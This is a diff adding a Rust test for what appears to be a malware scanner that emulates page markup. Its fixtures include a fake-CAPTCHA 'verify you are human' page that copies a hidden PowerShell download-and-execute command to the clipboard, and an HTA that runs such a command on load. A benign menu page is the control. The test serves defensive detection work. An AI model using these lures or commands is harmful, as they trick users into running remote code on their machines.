@@ -664,3 +664,53 @@ fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
     );
     assert_eq!(v, "benign", "{fired:?}");
 }
+
+/// A page's own markup is in the emulated DOM: a fake-CAPTCHA page whose only code is a
+/// button's `onclick` attribute, and an HTA whose command runs from `<body onload>`, are seen
+/// doing what they do; a page whose scripts work on its static elements and inline handlers is
+/// benign.
+#[test]
+fn a_pages_own_markup_and_inline_handlers_are_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, text).unwrap();
+        path
+    };
+    let clickfix = write(
+        "verify.html",
+        r#"<html><head><title>Verify you are human</title></head><body>
+<div class="captcha"><p>To verify, press Win+R, then Ctrl+V and Enter.</p>
+<button id="verify" onclick="navigator.clipboard.writeText('powershell -w hidden -c iwr https://198.51.100.9/c.ps1 | iex')">I'm not a robot</button>
+</div></body></html>"#,
+    );
+    let (verdict, fired) = verdict_of(&clickfix);
+    assert_eq!(verdict, "malicious", "{fired:?}");
+    assert!(
+        fired.iter().any(|r| r == "clipboard.run-dialog-lure"),
+        "{fired:?}"
+    );
+    let hta = write(
+        "update.hta",
+        r#"<html><head><hta:application id="oHTA" windowstate="minimize"/>
+<script language="JScript">
+function go() { new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c iex (iwr http://198.51.100.7/p)", 0); window.close(); }
+</script></head><body onload="go()"></body></html>"#,
+    );
+    let (verdict, fired) = verdict_of(&hta);
+    assert_eq!(verdict, "malicious", "{fired:?}");
+    assert!(fired.iter().any(|r| r == "process.command"), "{fired:?}");
+    let menu = write(
+        "menu.html",
+        r#"<html><body onload="init()"><nav><button id="menu" onclick="toggle()">Menu</button>
+<ul id="items" hidden><li><a href="/about">About</a></li></ul></nav>
+<p id="year"></p>
+<script>
+function init() { document.getElementById('year').textContent = new Date().getFullYear(); }
+function toggle() { var u = document.getElementById('items'); u.hidden = !u.hidden; }
+document.getElementById('menu').setAttribute('aria-expanded', 'false');
+</script></body></html>"#,
+    );
+    let (verdict, fired) = verdict_of(&menu);
+    assert_eq!(verdict, "benign", "{fired:?}");
+}
